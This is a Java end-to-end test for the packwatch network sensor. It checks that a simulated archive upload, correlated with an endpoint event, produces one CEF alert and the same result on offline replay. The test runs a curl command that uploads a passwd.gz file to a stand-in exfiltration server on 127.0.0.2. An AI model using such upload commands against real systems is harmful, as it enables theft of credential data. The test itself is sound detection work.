package io.packwatch.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.packwatch.capture.Libpcap;
import io.packwatch.support.ExfilServer;
import io.packwatch.support.Repo;
import io.packwatch.support.Rsyslogd;
import io.packwatch.support.SensorRun;
import io.packwatch.support.SysmonEvents;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The product's loop, live: the sensor captures on the loopback interface with a syslog listener and
 * a SIEM target (a real rsyslogd); util-linux {@code logger} sends the endpoint event of an Atomic Red
 * Team T1560.002 run on alice-pc (127.0.0.1), curl uploads its passwd.gz to an outside server
 * (127.0.0.2), and rsyslog receives the correlated alert as CEF. Then the same packets (captured by
 * tcpdump alongside) and the same event (as a collector would have written it) replayed offline give
 * the same alert. Needs root, libpcap, rsyslogd, logger, curl and tcpdump; skipped with the reason
 * otherwise.
 */
class LiveEndToEndTest {
    private static final String SETS_HOME = "sensor.home_networks=127.0.0.1/32";
    private static final String SETS_HOSTS = "correlate.hosts=alice-pc=127.0.0.1";

    @TempDir
    Path tmp;

    @Test
    void archiveUploadWithEndpointEvidenceReachesTheSiemAndReplaysTheSame() throws Exception {
        assumeTrue(LiveCaptureTest.isRoot(), "live capture needs root");
        assumeTrue(Libpcap.available(), "libpcap is not installed (apt-get install libpcap0.8)");
        assumeTrue(Rsyslogd.installed(), "rsyslogd is not installed (apt-get install rsyslog)");
        for (String tool : List.of("/usr/bin/logger", "/usr/bin/curl", "/usr/bin/tcpdump")) {
            assumeTrue(Files.isExecutable(Path.of(tool)), tool + " is not installed");
        }
        Path gz = Repo.root().resolve("sensor/src/test/resources/art/passwd.gz");
        ExfilServer exfil = ExfilServer.start();
        int syslogPort = ExfilServer.freeLoopbackPort();
        Path out = tmp.resolve("live.ndjson");
        Path pcap = tmp.resolve("live.pcap");
        String filter = "host 127.0.0.2";
        try (Rsyslogd siem = Rsyslogd.start(tmp.resolve("rsyslog"), "%msg%\\\\n")) {
            Process tcpdump = new ProcessBuilder("/usr/bin/tcpdump", "-U", "-q", "-i", "lo", "-w", pcap.toString(),
                    "--time-stamp-precision=nano", filter).redirectErrorStream(true)
                    .redirectOutput(tmp.resolve("tcpdump.log").toFile()).start();
            Process sensor = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                    "-cp", System.getProperty("java.class.path"), SensorMain.class.getName(),
                    "--interface", "lo", "--filter", filter, "--output", out.toString(),
                    "--syslog-listen", "tcp://127.0.0.1:" + syslogPort,
                    "--siem", "tcp://127.0.0.1:" + siem.port, "--siem-format", "cef",
                    "--set", SETS_HOME, "--set", SETS_HOSTS,
                    "--set", "siem.spool.path=" + tmp.resolve("spool"))
                    .redirectErrorStream(true).redirectOutput(tmp.resolve("sensor.log").toFile()).start();
            String event = SysmonEvents.gzipProcessCreate(Instant.now().truncatedTo(ChronoUnit.MILLIS));
            try {
                LiveCaptureTest.waitForLine(tmp.resolve("sensor.log"), "packwatch: capturing on lo", sensor);
                Thread.sleep(500);
                run("/usr/bin/logger", "--server", "127.0.0.1", "--port", Integer.toString(syslogPort), "--tcp",
                        "--octet-count", "--rfc5424", "--size", "65536", "-t", "sysmon", "--", event);
                run("/usr/bin/curl", "-s", "-S", "--fail", "--interface", "127.0.0.1", "-o", "/dev/null",
                        "-F", "file=@" + gz, "http://127.0.0.2:" + exfil.port() + "/upload");
                Thread.sleep(1000);
            } finally {
                sensor.destroy();
                assertTrue(sensor.waitFor(60, TimeUnit.SECONDS), "sensor did not stop on SIGTERM");
                tcpdump.destroy();
                tcpdump.waitFor(10, TimeUnit.SECONDS);
                exfil.close();
            }
            assertEquals(143, sensor.exitValue(), Files.readString(tmp.resolve("sensor.log")));
            List<String> cef = siem.awaitLines(1);
            assertEquals(1, cef.size(), "CEF lines: " + cef + "\nsensor said: " + Files.readString(tmp.resolve("sensor.log"))
                    + "\nrecords: " + Files.readString(out));
            String line = cef.get(0);
            assertTrue(line.startsWith("CEF:0|packwatch|packwatch|"), line);
            assertTrue(line.contains("|pw.corr.archive_exfil|"), line);
            for (String kv : List.of("src=127.0.0.1", "dst=127.0.0.2", "fname=passwd.gz", "suser=alice")) {
                assertTrue(line.contains(kv), kv + " in " + line);
            }
            JsonNode live = onlyAlert(records(out));
            assertEquals(4, live.at("/event/severity").asInt(), live.toString());
            assertTrue(line.contains(live.at("/event/id").asText()), "the CEF carries the alert id: " + line);

            // Offline: the same packets and the same event, as a collector writes it to a file. tcpdump's
            // handle stamps each packet a few hundred ns apart from the sensor's, and the alert id derives
            // from packet time: everything else must be equal.
            Path events = tmp.resolve("endpoint.log");
            Files.writeString(events, Instant.now().toString() + " alice-pc sysmon: " + event + "\n");
            SensorRun offline = SensorRun.of(tmp, "--read", pcap.toString(), "--endpoint-events", events.toString(),
                    "--set", SETS_HOME, "--set", SETS_HOSTS);
            JsonNode replayed = onlyAlert(offline.records);
            for (String field : List.of("/rule/id", "/event/severity", "/event/risk_score", "/source/ip",
                    "/destination/ip", "/destination/port", "/host/name", "/user/name", "/file/name", "/file/size",
                    "/file/hash/sha256", "/dlp/format", "/dlp/correlation/matched", "/dlp/objects/0/file",
                    "/dlp/objects/0/dlp", "/dlp/evidence/0/rule", "/dlp/evidence/0/process")) {
                assertEquals(live.at(field), replayed.at(field), field + "\nlive: " + live + "\nreplayed: " + replayed);
            }
        }
    }

    private static void run(String... argv) throws Exception {
        Process p = new ProcessBuilder(argv).redirectErrorStream(true).start();
        String said = new String(p.getInputStream().readAllBytes());
        assertTrue(p.waitFor(30, TimeUnit.SECONDS), argv[0] + " hung");
        assertEquals(0, p.exitValue(), argv[0] + ": " + said);
    }

    private static List<JsonNode> records(Path file) throws Exception {
        ObjectMapper json = new ObjectMapper();
        List<JsonNode> out = new ArrayList<>();
        for (String l : Files.readAllLines(file)) {
            out.add(json.readTree(l));
        }
        return out;
    }

    private static JsonNode onlyAlert(List<JsonNode> records) {
        List<JsonNode> alerts = records.stream()
                .filter(r -> r.at("/event/dataset").asText().equals("packwatch.alert")).toList();
        assertEquals(1, alerts.size(), "alerts: " + alerts);
        return alerts.get(0);
    }
}
